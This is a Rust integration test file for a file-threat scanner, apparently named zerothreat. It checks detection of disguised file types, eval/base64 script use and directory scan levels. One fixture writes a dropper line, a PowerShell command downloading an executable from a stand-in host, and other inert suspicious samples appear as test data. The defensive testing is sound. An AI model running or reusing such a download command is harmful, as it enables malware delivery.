/// Integration tests for the scanner
///
/// These tests run the analyzer against real files on disk and check the
/// scores, levels and findings it produces.

use std::fs;
use std::path::Path;
use std::sync::atomic::AtomicBool;

use zerothreat::app::{self, NullPresenter, ScanSummary};
use zerothreat::core::patterns::CONTENT_SCAN_LIMIT;
use zerothreat::{analyze_path, DiskFile, FileAnalyzer, FileHandle, FileTypeTag, ThreatLevel};

fn write_file(dir: &Path, name: &str, data: &[u8]) -> std::path::PathBuf {
    let path = dir.join(name);
    fs::write(&path, data).expect("Failed to write test file");
    path
}

#[test]
fn test_genuine_png() {
    let temp_dir = tempfile::tempdir().expect("Failed to create temp dir");
    let mut data = vec![0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A];
    data.extend_from_slice(&[0u8; 64]);
    let path = write_file(temp_dir.path(), "logo.png", &data);

    let result = analyze_path(&path).expect("Failed to analyze file");
    assert_eq!(result.detected_type, FileTypeTag::Png);
    assert_eq!(result.score, 0);
    assert_eq!(result.level, ThreatLevel::Safe);
    assert!(result.findings.is_empty());
}

#[test]
fn test_jpeg_disguised_as_png() {
    let temp_dir = tempfile::tempdir().expect("Failed to create temp dir");
    let path = write_file(temp_dir.path(), "photo.png", &[0xFF, 0xD8, 0xFF, 0xE1, 0x00, 0x18]);

    let result = analyze_path(&path).expect("Failed to analyze file");
    assert!(result.score >= 40);
    assert!(result
        .findings
        .iter()
        .any(|f| f.contains("claims .PNG but detected JPG")));
}

#[test]
fn test_script_with_eval_and_atob() {
    let temp_dir = tempfile::tempdir().expect("Failed to create temp dir");
    let path = write_file(
        temp_dir.path(),
        "tracker.js",
        b"(function(){ var p = atob('ZG9jdW1lbnQ='); eval(p); })();\n",
    );

    let result = analyze_path(&path).expect("Failed to analyze file");
    assert!(result.score >= 55);
    assert_eq!(
        result.findings,
        vec!["Suspicious use of eval()", "Base64 decoding detected"]
    );
}

#[test]
fn test_large_file_skips_content_scan() {
    let temp_dir = tempfile::tempdir().expect("Failed to create temp dir");
    let mut data = b"eval(document.cookie)\n".to_vec();
    data.resize(CONTENT_SCAN_LIMIT as usize + 10, b'a');
    let path = write_file(temp_dir.path(), "bundle.js", &data);

    let result = analyze_path(&path).expect("Failed to analyze file");
    assert_eq!(result.score, 0);
    assert!(result.findings.is_empty());
    assert_eq!(result.level, ThreatLevel::Safe);
}

#[test]
fn test_empty_file() {
    let temp_dir = tempfile::tempdir().expect("Failed to create temp dir");
    let path = write_file(temp_dir.path(), "empty.txt", b"");

    let result = analyze_path(&path).expect("Failed to analyze empty file");
    assert_eq!(result.size, 0);
    assert_eq!(result.detected_type, FileTypeTag::Unknown);
    assert_eq!(result.score, 0);
    assert!(result.findings.is_empty());
}

#[test]
fn test_file_removed_after_open() {
    let temp_dir = tempfile::tempdir().expect("Failed to create temp dir");
    let path = write_file(temp_dir.path(), "vanishing.exe", b"MZ\x90\x00");

    let handle = DiskFile::open(&path).expect("Failed to open handle");
    fs::remove_file(&path).expect("Failed to remove file");

    let result = FileAnalyzer::new().analyze_file(&handle);
    assert_eq!(result.name, "vanishing.exe");
    assert_eq!(result.findings, vec!["Could not read file header"]);
    assert_eq!(result.detected_type, FileTypeTag::Unknown);
    assert_eq!(result.level, ThreatLevel::Safe);
}

#[test]
fn test_scan_directory_in_order() {
    let temp_dir = tempfile::tempdir().expect("Failed to create temp dir");
    let paths = vec![
        write_file(temp_dir.path(), "a_clean.txt", b"meeting notes"),
        write_file(temp_dir.path(), "b_dropper.bat", b"powershell.exe -c iwr https://evil.example/x.exe"),
        write_file(temp_dir.path(), "c_invoice.pdf", b"MZ keylogger installer"),
    ];

    let cancel = AtomicBool::new(false);
    let results = app::scan_paths(&FileAnalyzer::new(), &paths, &mut NullPresenter, &cancel);

    let levels: Vec<_> = results.iter().map(|r| (r.name.as_str(), r.level)).collect();
    assert_eq!(
        levels,
        vec![
            ("a_clean.txt", ThreatLevel::Safe),
            ("b_dropper.bat", ThreatLevel::High),
            ("c_invoice.pdf", ThreatLevel::Critical),
        ]
    );
    assert_eq!(
        ScanSummary::from_results(&results),
        ScanSummary { files: 3, safe: 1, suspicious: 0, threats: 2 }
    );
}

#[test]
fn test_disk_and_memory_handles_agree() {
    let temp_dir = tempfile::tempdir().expect("Failed to create temp dir");
    let data = b"GIF89a String.fromCharCode(104,105)";
    let path = write_file(temp_dir.path(), "banner.jpg", data);

    let disk = DiskFile::open(&path).expect("Failed to open handle");
    let memory = zerothreat::MemoryFile::new("banner.jpg", data.to_vec());
    assert_eq!(disk.size(), memory.size());

    let analyzer = FileAnalyzer::new();
    assert_eq!(analyzer.analyze_file(&disk), analyzer.analyze_file(&memory));
}
